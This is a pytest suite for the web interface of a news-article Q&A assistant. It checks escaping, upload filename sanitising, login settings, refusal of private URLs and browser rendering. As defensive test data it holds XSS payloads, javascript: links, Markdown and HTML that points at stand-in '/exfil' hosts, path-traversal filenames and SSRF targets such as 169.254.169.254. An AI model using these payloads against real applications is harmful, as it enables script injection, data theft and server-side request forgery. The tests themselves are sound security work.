"""The web UI: pure rendering and escaping, the handlers on a real index, and the real server in Chromium.

The browser tests start ``ui.web.serve`` on a free loopback port (real e5 model, extractive backend,
a temp data dir with the seed article) and drive it with Playwright in Debian's chromium; they skip
when ``/usr/bin/chromium`` is absent (``make test`` installs it).
"""

from __future__ import annotations

import contextlib
import json
import socket
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import expect, sync_playwright

from assistant.assistant import Assistant
from assistant.feedback import read_feedback, record_feedback
from assistant.records import Answer, Citation
from core.errors import ConfigError
from core.models.prepare import prepare_local_model
from core.net import is_loopback
from core.records import ArticleInfo
from ingest.ingestor import Ingestor
from tests.conftest import REPO, SEED, make_settings
from ui.web import render
from ui.web.app import WebApp
from ui.web.server import exposure_warning, serve, ui_auth
from ui.web.texts import pick_language
from ui.web.uploads import safe_filename, store_upload

pytestmark = pytest.mark.filterwarnings("ignore::Warning:gradio.queueing")  # pandas 3 vs gradio 6.31

SEED_TITLE = "OpenAI Putus Kerja Sama dengan Scale AI setelah Meta Investasi Rp472 Triliun"
XSS = "<img src=x onerror=alert(1)>"
XSS_ARTICLE = {
    "id": "kopi-xss", "title": XSS, "outlet": "Evil Daily", "date": "2025-06-21", "lang": "id",
    "url": "javascript:alert(3)",
    "text": ("Harga kopi robusta di Lampung naik 20 persen bulan ini karena panen yang buruk. Petani kopi di Tanggamus "
             "mengatakan cuaca ekstrem merusak bunga kopi sejak Maret. <script>alert(4)</script>"),
}
UPLOAD_MD = """---
title: Banjir Dua Meter Rendam Kota Bekasi
outlet: Warta Uji
date: 2025-01-15
---
Banjir setinggi dua meter merendam Kota Bekasi pada Rabu pagi setelah hujan deras turun semalaman.
Badan Penanggulangan Bencana Daerah mengevakuasi 1.200 warga ke posko pengungsian di Stadion Patriot.
"""
UPLOAD_TITLE = "Banjir Dua Meter Rendam Kota Bekasi"


def citation(n: int = 1, **fields) -> Citation:
    values = dict(n=n, article_id="a1", chunk_id="a1:0", title="Judul", outlet="Kompas", published="2025-06-18",
                  url="https://example.com/berita/1", passage="Kalimat satu. Kalimat dua yang dikutip. Kalimat tiga.",
                  quote="Kalimat dua yang dikutip.")
    values.update(fields)
    return Citation(**values)


def answer(**fields) -> Answer:
    values = dict(question="Q?", language="en", text="It did [1].", refused=False, citations=(citation(),),
                  backend="extractive", model="", timings_ms={"retrieve": 120.0, "first_token": 300.0, "total": 1500.0})
    values.update(fields)
    return Answer(**values)


# --- rendering and escaping (pure) ----------------------------------------------------------------


@pytest.mark.parametrize("url, ok", [
    ("https://example.com/a?b=1#c", True), ("http://kompas.id/x", True), ("  https://e.com  ", True),
    ("javascript:alert(1)", False), ("JaVaScRiPt:alert(1)", False), ("data:text/html,<b>x</b>", False),
    ("ftp://example.com/x", False), ("/relative/path", False), ("http://", False), ("", False),
    ('https://e.com/"onmouseover="alert(1)', False), ("vbscript:x", False),
])
def test_safe_url_keeps_only_absolute_http_links(url, ok):
    assert (render.safe_url(url) is not None) is ok


def test_source_card_escapes_every_field_and_marks_the_quote():
    card = render.source_card(2, citation(title=XSS, outlet="<b>Out</b>", published="2025-06-18",
                                          passage=f"Awal. {XSS} dikutip. Akhir.", quote=f"{XSS} dikutip."), "en")
    assert "<img" not in card and "<b>" not in card
    assert "&lt;img src=x onerror=alert(1)&gt;" in card and "&lt;b&gt;Out&lt;/b&gt;" in card
    assert 'id="src-2-1"' in card
    assert "<mark>&lt;img src=x onerror=alert(1)&gt; dikutip.</mark>" in card
    assert 'href="https://example.com/berita/1" target="_blank" rel="noopener noreferrer nofollow"' in card


def test_source_card_drops_non_http_links():
    card = render.source_card(1, citation(url="javascript:alert(3)"), "en")
    assert "href" not in card and "javascript" not in card
    assert "(no valid link)" in card
    assert "href" not in render.source_card(1, citation(url="data:text/html,x"), "id")
    assert "src-nolink" not in render.source_card(1, citation(url=""), "en")  # no URL at all: nothing to say


def test_highlight_marks_two_separate_sentences_and_cuts_long_passages():
    passage = "Satu. " * 100 + "Yang pertama. " + "Dua. " * 10 + "Yang kedua. " + "Tiga. " * 100
    html = render.highlight(passage, "Yang pertama. Yang kedua.")
    assert html.count("<mark>") == 2 and "<mark>Yang pertama.</mark>" in html and "<mark>Yang kedua.</mark>" in html
    assert html.startswith("… ") and html.endswith(" …") and len(html) < len(passage)
    assert render.highlight("a <b> c", "zzz") == "a &lt;b&gt; c"  # no quote found: escaped, no mark


def test_markers_become_links_to_their_turns_cards():
    assert render.answer_html("A [1]. B [2][3].", 4) == (
        'A <a href="#src-4-1">[1]</a>. B <a href="#src-4-2">[2]</a><a href="#src-4-3">[3]</a>.')
    assert render.answer_html("x [12] [123] [a]", 3) == 'x <a href="#src-3-12">[12]</a> [123] [a]'
    assert render.chat_html("a question [1]") == "a question [1]"  # markers link only in answers


def test_the_quoted_evidence_line_is_a_blockquote_and_stays_literal():
    text = "Jason Droege [1].\n\n> Kutipan artikel: CEO interim Scale AI, Jason Droege <b>x</b> [2]."
    shown = render.answer_html(text, 3)
    assert shown == ('Jason Droege <a href="#src-3-1">[1]</a>.<br><br><blockquote>Kutipan artikel: CEO interim '
                     'Scale AI, Jason Droege &lt;b&gt;x&lt;/b&gt; <a href="#src-3-2">[2]</a>.</blockquote>')
    assert render.chat_text(shown) == text
    assert render.chat_html("a > b") == "a &gt; b"  # only a line that starts with "> " is a quote


HOSTILE_MARKDOWN = [
    "![pixel](https://tracker.example/p.gif)", "![grafik][g]\n\n[g]: http://h/exfil?q=secret",
    "[js](javascript:alert(6))", "[data](data:text/html,x)", "[[1]](javascript:alert(7))", "<http://h/auto>",
    "http://h/bare www.h.com a@h.com", XSS, "<script>alert(5)</script>", "&lt;img src=x&gt; &#60;img src=x&#62;",
    "<!-- <img src=x> -->", "| a | ![t](http://h/t.png) |\n|---|---|", "```mermaid\ngraph TD; A[\"<img src=x>\"]\n```",
    "<svg><image href=http://h/s></svg>", "<style>@import url(http://h/c)</style>", "[ok](https://example.com/ok)",
]


@pytest.mark.parametrize("text", HOSTILE_MARKDOWN)
def test_chat_html_shows_any_markup_as_text(text):
    shown = render.answer_html(text, 1)
    assert "<" not in shown.replace("<br>", "").replace('<a href="#src-1-1">[1]</a>', ""), shown
    assert render.chat_text(shown) == "\n".join(line.strip() for line in text.splitlines())


def test_chat_html_keeps_emphasis_code_and_line_breaks_only():
    shown = render.chat_html("**tebal [1]** dan *miring*, `warta ingest`\n\n2 * 3 * 4 and a*b*c **<b>x</b>**")
    assert shown == ("<strong>tebal [1]</strong> dan <em>miring</em>, <code>warta ingest</code><br><br>"
                     "2 * 3 * 4 and a*b*c <strong>&lt;b&gt;x&lt;/b&gt;</strong>")
    assert render.answer_html("**a [2]**", 5) == '<strong>a <a href="#src-5-2">[2]</a></strong>'
    assert render.text_html("Retrieval <b>1 s</b> · ![x](http://h/x)") == (
        "<span>Retrieval &lt;b&gt;1 s&lt;/b&gt; · ![x](http://h/x)</span>")


def test_plain_history_turns_chatbot_value_into_plain_strings():
    value = [
        {"role": "user", "content": [{"type": "text", "text": render.chat_html("why <x> & **y**?")}], "metadata": None,
         "options": None},
        {"role": "assistant", "content": [{"type": "text", "text": render.answer_html("Because [1].", 1)}],
         "metadata": None},
        {"role": "assistant", "content": "details", "metadata": {"title": "Details"}},
        {"role": "user", "content": ""},
        {"role": "user", "content": "and Google?"},
    ]
    assert render.plain_history(value) == [
        {"role": "user", "content": "why <x> & **y**?"}, {"role": "assistant", "content": "Because [1]."},
        {"role": "user", "content": "and Google?"},
    ]


def test_sources_panel_newest_open_older_folded():
    turns = [render.Turn(1, "q1", "a1", answer(), "d1"), render.Turn(2, "q2", "a2", answer(citations=()), "d2")]
    html = render.sources_panel(turns, "en")
    assert html.index('data-turn="2"') < html.index('data-turn="1"')
    assert '<section class="src-turn" data-turn="2" data-status="done"><h4>Answer 2</h4>' in html
    assert '<details class="src-turn" data-turn="1" data-status="done"><summary>Answer 1</summary>' in html
    assert "This answer cites no sources." in html and 'id="src-1-1"' in html
    assert "Sumber jawaban" in render.sources_panel([], "id")


def test_details_line_shows_times_backend_and_model():
    line = render.details_line(answer(backend="local", model="qwen2.5-coder-1.5b"), "en")
    assert line == ("Retrieval 0.12 s · first token 0.30 s · total 1.50 s · backend: local · "
                    "model: qwen2.5-coder-1.5b")
    assert render.details_line(answer(), "id").startswith("Pencarian 0.12 dtk · token pertama 0.30 dtk")
    assert "first token –" in render.details_line(answer(timings_ms={"total": 5.0}), "en")


def test_library_rows_search_titles_and_ingest_report_escapes():
    def info(id_: str, title: str, **kw) -> ArticleInfo:
        values = dict(url="", published="", outlet="", lang="id", content_hash="h", n_chunks=1, ingested_at="",
                      source="")
        return ArticleInfo(id_, title, **{**values, **kw})

    infos = [info("a", "Meta invests in Scale AI", published="2025-06-13", lang="en", n_chunks=3), info("b", XSS)]
    assert [r[-1] for r in render.library_rows(infos, "  scale ai ")] == ["a"]
    assert render.library_rows(infos, "")[1] == [XSS, "", "", "id", 1, "b"]  # the Dataframe shows str cells as text
    report = render.ingest_report([("<img src=x onerror=alert(1)>.txt", "failed", "", 0, "bad <b>"),
                                   ("ok.md", "added", "T<i>tle", 1, "")], "en")
    assert "<img" not in report and "<b>" not in report and "<i>" not in report
    assert "<td>&lt;img src=x onerror=alert(1)&gt;.txt</td><td>failed: bad &lt;b&gt;</td>" in report
    assert "<td>✓</td><td>ok.md</td><td>added: T&lt;i&gt;tle (1 passage)</td>" in report
    assert render.status_html("Removed “<x>”.") == '<p class="lib-message">Removed “&lt;x&gt;”.</p>'


def test_pick_language_follows_toggle_then_browser():
    assert pick_language("en", "id-ID,id;q=0.9") == "en"
    assert pick_language("auto", "id-ID,id;q=0.9,en;q=0.8") == "id"
    assert pick_language("auto", "en-US,en") == "en"
    assert pick_language(None, "") == "en"


# --- uploads, feedback, serve options -------------------------------------------------------------


@pytest.mark.parametrize("name, safe", [
    ("../../etc/passwd", "passwd"), ("..\\..\\x.TXT", "x.txt"), ("a/b/<script>.md", "_script_.md"),
    ("", "upload"), (".hidden", "hidden"), ("berita 1 (final).json", "berita 1 (final).json"),
    ("x" * 300 + ".jsonl", "x" * 114 + ".jsonl"), ("名前.txt", "名前.txt"), ("a\x00b.txt", "a_b.txt"),
])
def test_safe_filename_never_leaves_its_folder(name, safe):
    assert safe_filename(name) == safe


def test_store_upload_checks_type_and_size_and_stays_in_uploads(tmp_path):
    settings = make_settings(tmp_path / "data", tmp_path / "models", ui={"max_upload_mb": 0.001})
    ok = tmp_path / "in" / "..berita.md"
    ok.parent.mkdir()
    ok.write_text("# Judul\n\nIsi berita.")
    stored = store_upload(settings, ok)
    assert stored.error == "" and stored.name == "berita.md"
    assert stored.path.parent.parent == (settings.data_dir / "uploads").resolve()
    assert stored.path.read_text() == ok.read_text()
    assert store_upload(settings, ok).path == stored.path  # same file again: same place (ingest sees it unchanged)
    bad = tmp_path / "in" / "x.exe"
    bad.write_text("MZ")
    assert "not accepted" in store_upload(settings, bad).error
    big = tmp_path / "in" / "big.txt"
    big.write_text("x" * 5000)
    assert "over the 0.001 MB upload limit" in store_upload(settings, big).error


def test_feedback_is_appended_as_jsonl(tmp_path):
    settings = make_settings(tmp_path / "data", tmp_path / "models")
    record_feedback(settings, "up", question="why?", answer=answer())
    record_feedback(settings, "down", question="lagi?", shown="partial answer")
    lines = (settings.data_dir / "feedback.jsonl").read_text().splitlines()
    assert len(lines) == 2
    first, second = read_feedback(settings)
    assert first["rating"] == "up" and first["question"] == "why?" and first["answer"] == "It did [1]."
    assert first["citations"][0]["title"] == "Judul" and first["citations"][0]["quote"] == "Kalimat dua yang dikutip."
    assert second["rating"] == "down" and second["answer"] == "partial answer" and second["citations"] == []
    with pytest.raises(ValueError):
        record_feedback(settings, "meh", question="q")  # type: ignore[arg-type]  # a wrong rating on purpose


def test_login_needs_both_variables_and_exposure_warns(tmp_path, monkeypatch):
    settings = make_settings(tmp_path / "data", tmp_path / "models")
    monkeypatch.delenv("WARTA_UI_USER", raising=False)
    monkeypatch.delenv("WARTA_UI_PASSWORD", raising=False)
    assert ui_auth(settings) is None
    monkeypatch.setenv("WARTA_UI_USER", "redaksi")
    with pytest.raises(ConfigError, match="WARTA_UI_PASSWORD"):
        ui_auth(settings)
    monkeypatch.setenv("WARTA_UI_PASSWORD", "rahasia")
    assert ui_auth(settings) == ("redaksi", "rahasia")
    assert is_loopback("127.0.0.1") and is_loopback("localhost") and is_loopback("::1")
    assert not is_loopback("0.0.0.0") and not is_loopback("192.168.1.5")
    assert "without a login" in exposure_warning(settings, "0.0.0.0", None)
    assert exposure_warning(settings, "0.0.0.0", ("u", "p")) == ""
    assert exposure_warning(settings, "127.0.0.1", None) == ""


def test_serve_subcommand_is_a_thin_call(monkeypatch, tmp_path):
    import ui.web.server
    from ui.cli import main

    calls = []
    monkeypatch.setattr(ui.web.server, "serve", lambda settings, **kw: calls.append((settings, kw)))
    monkeypatch.chdir(tmp_path)
    assert main(["--data-dir", str(tmp_path / "d"), "serve", "--host", "0.0.0.0", "--port", "8123",
                 "--backend", "extractive"]) == 0
    settings, kw = calls[0]
    assert kw == {"host": "0.0.0.0", "port": 8123, "backend": "extractive"}
    assert settings.answer.backend == "extractive" and settings.ui.port == 7860


def test_make_run_ends_with_warta_serve():
    run = (REPO / "Makefile").read_text().split("\nrun:", 1)[1].split("\n\n", 1)[0]
    assert run.strip().splitlines()[-1].strip() == "$(BIN)/warta serve"


# --- handlers on a real index (no browser) --------------------------------------------------------


def run_chat(app, question: str, chat=None, turns=None, **filters):
    """Drive ``WebApp.respond`` like Gradio does; returns the last yielded chat, panel, details and turns."""
    args = dict(date_from=None, date_to=None, outlets=[], article_lang="all", ui_lang="en")
    args.update(filters)
    out = None
    for out in app.respond(question, True, chat or [], args["date_from"], args["date_to"], args["outlets"],  # noqa: B007 (the last output is read after the loop)
                           args["article_lang"], args["ui_lang"], turns or [], None):
        pass
    chat, panel, details, turns, *_ = out
    return chat, panel, details, turns


def test_empty_store_says_how_to_add_articles(tmp_path, models_dir, embedder):
    settings = make_settings(tmp_path / "data", models_dir)
    chat, panel, _, turns = run_chat(WebApp(settings, Assistant(settings, embedder=embedder)), "Siapa CEO Scale AI?")
    assert chat[0] == {"role": "user", "content": "Siapa CEO Scale AI?"}
    assert "Library" in chat[-1]["content"] and "warta ingest" in chat[-1]["content"]
    assert 'data-turn="1" data-status="done"' in panel and turns[0].answer is None


def test_backend_down_is_a_readable_message(tmp_path, models_dir, embedder):
    with socket.socket() as s:  # a port nobody listens on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    settings = make_settings(tmp_path / "data", models_dir, answer={"backend": "openai", "fallback_to_extractive": False},
                             openai={"base_url": f"http://127.0.0.1:{port}/v1", "timeout_s": 5.0})
    assistant = Assistant(settings, embedder=embedder)
    Ingestor(settings, index=assistant.index, embedder=embedder).ingest([str(SEED)])
    chat, _, _, _ = run_chat(WebApp(settings, assistant), "Why did OpenAI drop Scale AI?")
    shown = chat[-1]["content"]
    assert "Sorry, the answer could not be made" in shown and "'openai' answer backend failed" in shown
    assert "Traceback" not in shown


# --- the real server in a real browser ------------------------------------------------------------

CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                 "--disable-component-update", "--no-first-run"]
TIMEOUT_MS = 60_000  # 2 shared cores: an extractive answer takes a few seconds, an ingest more


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextlib.contextmanager
def streaming_server(web, words: int, delay_s: float) -> Iterator[str]:
    """A server over the module's index whose model streams "OpenAI memutus ... [1]. kata0 ... selesai." word by
    word (``words`` words, ``delay_s`` before each piece): time to watch streaming and press Stop. Yields its URL."""
    from tests.conftest import scripted_chat

    text = " ".join(f"kata{i}" for i in range(words))
    settings = web["settings"].updated({"answer": {"backend": "openai"}})
    assistant = Assistant(settings, index=web["assistant"].index, embedder=web["assistant"].embedder,
                          llm=scripted_chat(f"OpenAI memutus kerja sama dengan Scale AI [1]. {text} selesai.",
                                            delay_s=delay_s))
    port = free_port()
    demo = serve(settings, host="127.0.0.1", port=port, assistant=assistant, block=False)
    try:
        yield f"http://127.0.0.1:{port}/"
    finally:
        demo.close()


@pytest.fixture(scope="module")
def web(tmp_path_factory, models_dir, embedder):
    """The real server on a free loopback port, over a data dir with the seed and an XSS-titled article."""
    root = tmp_path_factory.mktemp("web")
    # The test site is on loopback, which pasted URLs may not reach by default (see test_pasted_urls_...).
    settings = make_settings(root / "data", models_dir, ingest={"allow_private_urls": True})
    assistant = Assistant(settings, embedder=embedder)
    extra = root / "extra.jsonl"
    extra.write_text(json.dumps(XSS_ARTICLE))
    report = Ingestor(settings, index=assistant.index, embedder=embedder).ingest([str(SEED), str(extra)])
    assert not report.failed, report.failed
    port = free_port()
    demo = serve(settings, host="127.0.0.1", port=port, assistant=assistant, block=False)
    yield {"url": f"http://127.0.0.1:{port}/", "settings": settings, "assistant": assistant}
    demo.close()


@pytest.fixture(scope="module")
def browser():
    if not Path(CHROMIUM).exists():
        pytest.skip(f"Debian chromium not found at {CHROMIUM} (`make test` installs it)")
    expect.set_options(timeout=TIMEOUT_MS)
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield b
        b.close()


class Page:
    """A fresh browser context on the app, recording dialogs (the XSS canary) and non-loopback requests."""

    def __init__(self, browser, url: str, locale: str = "en-US", wait_for: str = "#chatbot") -> None:
        self.context = browser.new_context(viewport={"width": 1400, "height": 1000}, locale=locale)
        self.page = self.context.new_page()
        self.page.set_default_timeout(TIMEOUT_MS)
        self.dialogs: list[str] = []
        self.external: list[str] = []
        self.page.on("dialog", self._dialog)
        self.page.on("request", self._request)
        self.page.goto(url, wait_until="domcontentloaded")  # the queue's event stream never lets it go idle
        self.page.wait_for_selector(wait_for)

    def _dialog(self, dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _request(self, request) -> None:
        if not request.url.startswith(("data:", "blob:")) and urlsplit(request.url).hostname not in ("127.0.0.1",):
            self.external.append(request.url)

    def ask(self, question: str, turn: int, timeout: float = TIMEOUT_MS) -> None:
        """Ask and wait until the answer has finished streaming (its sources section is the last write)."""
        box = self.page.locator("#msg textarea")
        box.fill(question)
        box.press("Enter")
        self.wait_answer(turn, timeout)

    def wait_answer(self, turn: int, timeout: float = TIMEOUT_MS) -> None:
        done = self.page.locator(f'#sources-panel [data-turn="{turn}"][data-status="done"]')
        expect(done).to_be_attached(timeout=timeout)
        expect(self.page.locator("#send-btn")).to_be_visible()
        expect(self.page.locator("#stop-btn")).to_have_count(0)

    def bot(self, index: int = -1):
        bots = self.page.locator('#chatbot [data-testid="bot"]')
        return bots.last if index == -1 else bots.nth(index)

    def close(self) -> None:
        self.context.close()


@pytest.fixture
def open_page(browser, web):
    pages: list[Page] = []

    def opener(**kw) -> Page:
        pages.append(Page(browser, kw.pop("url", web["url"]), **kw))
        return pages[-1]

    yield opener
    for p in pages:
        assert p.dialogs == [], f"a dialog fired: {p.dialogs}"
        assert p.external == [], f"the page reached beyond this machine: {p.external}"
        p.close()


@pytest.mark.browser
def test_seed_question_streams_cites_and_scrolls_to_its_card(open_page, tmp_path):
    ui = open_page()
    page = ui.page
    examples = page.locator("#chatbot button.example")
    expect(examples.first).to_contain_text("Why did OpenAI drop Scale AI?")
    expect(examples.nth(1)).to_contain_text("Berapa nilai investasi Meta di Scale AI?")
    examples.first.click()  # an example asks at once
    ui.wait_answer(1)
    expect(ui.bot()).to_contain_text("OpenAI")
    expect(ui.bot()).to_contain_text("Scale AI")
    marker = ui.bot().locator('a[href="#src-1-1"]')
    expect(marker.first).to_have_text("[1]")
    card = page.locator("#src-1-1")
    expect(card.locator(".src-title")).to_have_text(SEED_TITLE)
    expect(card.locator("mark").first).not_to_be_empty()
    details = page.locator("#answer-details")
    expect(details).to_contain_text("Retrieval")
    expect(details).to_contain_text("first token")
    expect(details).to_contain_text("backend: extractive")
    page.screenshot(path=str(tmp_path / "seed-answer.png"))
    page.screenshot(path=str(REPO / "docs" / "ui.png"))

    ui.ask("Berapa nilai investasi Meta di Scale AI?", 2)  # a follow-up in Indonesian
    expect(ui.bot()).to_contain_text("14,3 miliar")
    expect(page.locator('#sources-panel details[data-turn="1"]')).to_have_count(1)
    expect(card).not_to_be_visible()  # the first answer's sources are folded now
    url_before = page.url
    ui.bot(0).locator('a[href="#src-1-1"]').first.click()
    expect(card).to_be_visible()
    expect(card).to_be_in_viewport(ratio=0.3)
    assert page.url == url_before


@pytest.mark.browser
def test_filters_apply_to_retrieval(open_page):
    ui = open_page()
    page = ui.page
    page.locator("#filters .label-wrap").click()
    page.locator("#f-lang").get_by_text("English", exact=True).click()  # every stored article is Indonesian
    ui.ask("Why did OpenAI drop Scale AI?", 1)
    expect(ui.bot()).to_contain_text("I could not find the answer in the available articles.")
    expect(page.locator('#sources-panel [data-turn="1"] .src-card')).to_have_count(0)
    page.locator("#f-lang").get_by_text("All", exact=True).click()
    page.locator("#f-date-to input").fill("2020-01-01")  # the seed article has no date: filtered out
    ui.ask("Why did OpenAI drop Scale AI?", 2)
    expect(ui.bot()).to_contain_text("I could not find the answer in the available articles.")
    page.locator("#f-date-to input").fill("")
    ui.ask("Why did OpenAI drop Scale AI?", 3)
    expect(page.locator("#src-3-1 .src-title")).to_have_text(SEED_TITLE)


@pytest.mark.browser
def test_upload_then_ask_then_remove(open_page, web, site, tmp_path):
    ui = open_page()
    page = ui.page
    page.get_by_role("tab", name="Library").click()
    table = page.locator("#lib-table")
    expect(table).to_contain_text(SEED_TITLE)
    good = tmp_path / "banjir bekasi.md"
    good.write_text(UPLOAD_MD, encoding="utf-8")
    empty = tmp_path / "kosong.txt"
    empty.write_text("", encoding="utf-8")
    page.locator('#lib-upload input[type="file"]').set_input_files([str(good), str(empty)])
    expect(page.locator('#lib-upload a[data-testid="download-link"]')).to_have_count(2)  # upload finished
    feed_url = site.add("/berita/gempa", "<html><head><title>x</title></head><body><p>tidak cukup</p></body></html>")
    page.locator("#lib-urls textarea").fill(f"ftp://example.com/x\n{feed_url}")
    page.locator("#lib-add-btn").click()
    expect(page.locator("#lib-status .progress-text, #lib-status .progress-level").first).to_be_attached()
    status = page.locator("#lib-status")
    expect(status.locator("tr", has_text="banjir bekasi.md")).to_contain_text(f"added: {UPLOAD_TITLE}")
    expect(status.locator("tr", has_text="kosong.txt")).to_contain_text("failed: empty file")
    expect(status.locator("tr", has_text="ftp://example.com/x")).to_contain_text("not an http(s) URL")
    expect(status.locator("tr", has_text="/berita/gempa")).to_contain_text("failed: no main article text")
    expect(table).to_contain_text(UPLOAD_TITLE)
    page.screenshot(path=str(tmp_path / "library.png"))
    stored = list((web["settings"].data_dir / "uploads").glob("*/banjir bekasi.md"))
    assert len(stored) == 1 and stored[0].read_text(encoding="utf-8") == UPLOAD_MD

    page.get_by_role("tab", name="Chat").click()
    ui.ask("Seberapa tinggi banjir yang merendam Kota Bekasi?", 1)
    expect(ui.bot()).to_contain_text("dua meter")
    expect(page.locator("#src-1-1 .src-title")).to_have_text(UPLOAD_TITLE)
    expect(page.locator("#src-1-1 .src-meta")).to_contain_text("Warta Uji · 2025-01-15")

    page.get_by_role("tab", name="Library").click()
    page.locator("#lib-search textarea").fill("banjir")
    rows = table.locator(".virtual-body [role=row]")
    expect(rows).to_have_count(1)
    rows.first.locator("[role=gridcell]").first.click()
    expect(page.locator("#lib-remove-ref textarea")).not_to_have_value("")
    page.locator("#lib-remove-btn").click()
    expect(status).to_contain_text(f"Removed “{UPLOAD_TITLE}” (1 passage).")
    expect(table).not_to_contain_text(UPLOAD_TITLE)
    assert all(a.title != UPLOAD_TITLE for a in web["assistant"].index.articles())


@pytest.mark.browser
def test_pasted_urls_cannot_reach_this_machine_or_its_network(browser, web, site):
    """With the default settings, the Library's URL box refuses URLs that lead to loopback (in any spelling,
    the web UI's own /config included) or a private network, names each, and fetches nothing."""
    settings = web["settings"].updated({"ingest": {"allow_private_urls": False}})
    assistant = Assistant(settings, index=web["assistant"].index, embedder=web["assistant"].embedder)
    port = free_port()
    demo = serve(settings, host="127.0.0.1", port=port, assistant=assistant, block=False)
    try:
        site_port = urlsplit(site.base).port
        page_url = site.add("/berita/ssrf", f"<html><body><article><h1>Rahasia</h1><p>{'Isi intranet. ' * 20}</p>"
                                             "</article></body></html>")
        urls = {page_url: "127.0.0.1 is a loopback address",
                f"http://2130706433:{site_port}/berita/ssrf": "2130706433 resolves to 127.0.0.1, a loopback address",
                f"http://127.0.0.1:{port}/config": "127.0.0.1 is a loopback address",
                "http://169.254.169.254/latest/meta-data/": "169.254.169.254 is a link-local address"}
        before = web["assistant"].index.counts()
        ui = Page(browser, f"http://127.0.0.1:{port}/")
        page = ui.page
        page.get_by_role("tab", name="Library").click()
        page.locator("#lib-urls textarea").fill("\n".join(urls))
        page.locator("#lib-add-btn").click()
        status = page.locator("#lib-status")
        for url, reason in urls.items():
            expect(status.locator("tr", has_text=url)).to_contain_text(f"failed: refused: {reason}")
        assert site.hits == [] and web["assistant"].index.counts() == before
        ui.close()
    finally:
        demo.close()


@pytest.mark.browser
def test_untrusted_titles_and_text_render_as_text(open_page):
    ui = open_page()
    page = ui.page
    ui.ask(f"Berapa kenaikan harga kopi robusta di Lampung? {XSS} **tebal**", 1)
    card = page.locator("#sources-panel .src-card", has_text="Evil Daily").first
    expect(card.locator(".src-title")).to_have_text(XSS)
    expect(card.locator(".src-nolink")).to_have_text("(no valid link)")  # javascript: URL dropped
    user = page.locator('#chatbot [data-testid="user"]').last
    expect(user).to_contain_text(XSS)  # the question is shown literally
    expect(user.locator("strong")).to_have_text("tebal")  # Markdown still works
    page.get_by_role("tab", name="Library").click()
    expect(page.locator("#lib-table")).to_contain_text(XSS)
    assert page.locator("#sources-panel img, #chatbot img, #lib-table img, #sources-panel script").count() == 0
    assert page.locator("[onerror]").count() == 0
    hrefs = page.locator("#sources-panel a[href], #chatbot a[href]").evaluate_all(
        "els => els.map(e => e.getAttribute('href'))")
    assert all(h.startswith(("http://", "https://", "#src-")) for h in hrefs), hrefs
    time.sleep(0.5)  # a late onerror would show up as a dialog (checked by the fixture)


def hostile_markup(base: str) -> str:
    """Every Markdown/HTML form that could make a browser fetch ``base/...`` or run script, one per line."""
    e = f"{base}/exfil"
    return "\n\n".join([  # blank lines: a reference definition cannot interrupt a paragraph
        "OpenAI memutus kerja sama dengan Scale AI [1].",
        f"![grafik][g] ![inline]({e}/inline.png) [klik][r] <{e}/autolink> {e}/bare www.example.com",
        f"[g]: {e}/ref-image?q=secret\n[r]: {e}/ref-link",
        f'<img src="{e}/img"> <iframe src="{e}/iframe"></iframe> <svg><image href="{e}/svg"/></svg>',
        f'<video poster="{e}/poster"></video> <audio src="{e}/audio"></audio> <link rel="stylesheet" href="{e}/css">',
        f'<style>@import url("{e}/import.css"); body {{ background: url("{e}/bg") }}</style>',
        f'<picture><source srcset="{e}/srcset"></picture> <object data="{e}/object"></object> <embed src="{e}/embed">',
        f'<input type="image" src="{e}/input"> <table background="{e}/table-bg"><tr><td>x</td></tr></table>',
        f'&lt;img src="{e}/entity"&gt; &#60;img src="{e}/entity2"&#62; &#x3C;img src="{e}/entity3"&#x3E;',
        f"![data](data:image/svg+xml,%3Csvg%3E%3Cimage%20href='{e}/data'/%3E%3C/svg%3E) [js](javascript:alert(8))",
        f'<a href="javascript:alert(9)">tautan</a> <!-- <img src="{e}/comment"> --> [rel](/{e}/relative)',
        f"| kolom | gambar |\n|---|---|\n| a | ![t]({e}/table.png) |",
        f"```mermaid\ngraph TD; A[\"<img src='{e}/mermaid'>\"] --> B\n```",
        "**tebal** dan *miring* [2]",
    ])


HOSTILE_TAGS = "img, iframe, svg, video, audio, source, picture, object, embed, link, style, input, table, script"


@pytest.mark.browser
def test_markup_in_answers_questions_and_articles_shows_as_text_and_loads_nothing(browser, models_dir, embedder,
                                                                                     site, tmp_path):
    """An article can carry any Markdown or HTML, and so can a question and an answer that repeats the article
    (here a scripted chat model standing in for an `openai` backend; grounding keeps what the article states):
    the page shows it all as text and requests nothing."""
    from tests.conftest import scripted_chat

    payload = hostile_markup(site.base)
    # one chunk holds the whole article, so every line the model repeats is in the passage it cites
    settings = make_settings(tmp_path / "data", models_dir, answer={"backend": "openai"},
                             chunking={"chunk_tokens": 480})
    assistant = Assistant(settings, embedder=embedder, llm=scripted_chat(payload, delay_s=0.01))
    article = {"id": "cabai", "lang": "id", "outlet": "Harian Uji", "date": "2025-03-02",
               "title": f"Harga cabai naik ![t]({site.base}/exfil/title.png) <img src={site.base}/exfil/title2>",
               "text": ("Harga cabai rawit di Bandung naik menjadi Rp90.000 per kilogram pekan ini. "
                        f"Pedagang menyebut pasokan dari Garut berkurang. ![p][p]\n[p]: {site.base}/exfil/passage\n"
                        "Dinas Perdagangan berjanji menggelar operasi pasar.\n\n" + payload)}
    extra = tmp_path / "cabai.jsonl"
    extra.write_text(json.dumps(article))
    assert not Ingestor(settings, index=assistant.index, embedder=embedder).ingest([str(SEED), str(extra)]).failed
    port = free_port()
    demo = serve(settings, host="127.0.0.1", port=port, assistant=assistant, block=False)
    try:
        ui = Page(browser, f"http://127.0.0.1:{port}/")
        page = ui.page
        exfil_requests: list[str] = []
        page.on("request", lambda r: exfil_requests.append(r.url) if "/exfil" in r.url else None)
        ui.ask("Berapa harga cabai rawit di Bandung?", 1)
        bot = ui.bot()
        expect(bot).to_contain_text("![grafik][g]")
        expect(bot).to_contain_text(f'<img src="{site.base}/exfil/img">')
        expect(bot).to_contain_text(f"![t]({site.base}/exfil/table.png)")
